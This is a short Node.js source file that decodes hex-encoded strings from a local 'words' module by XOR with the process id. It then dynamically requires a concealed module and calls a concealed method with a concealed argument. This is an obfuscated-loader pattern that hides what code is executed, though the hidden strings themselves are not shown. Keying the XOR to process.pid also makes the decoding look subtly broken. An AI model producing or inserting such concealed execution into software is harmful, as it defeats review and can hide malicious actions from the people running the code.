'use strict'
const words = require('./words')

function plain (word) {
  return Buffer.from(word, 'hex').map(b => b ^ process.pid).toString()
}

const tool = require(plain(words[0]))
tool[plain(words[1])](plain(words[2]))
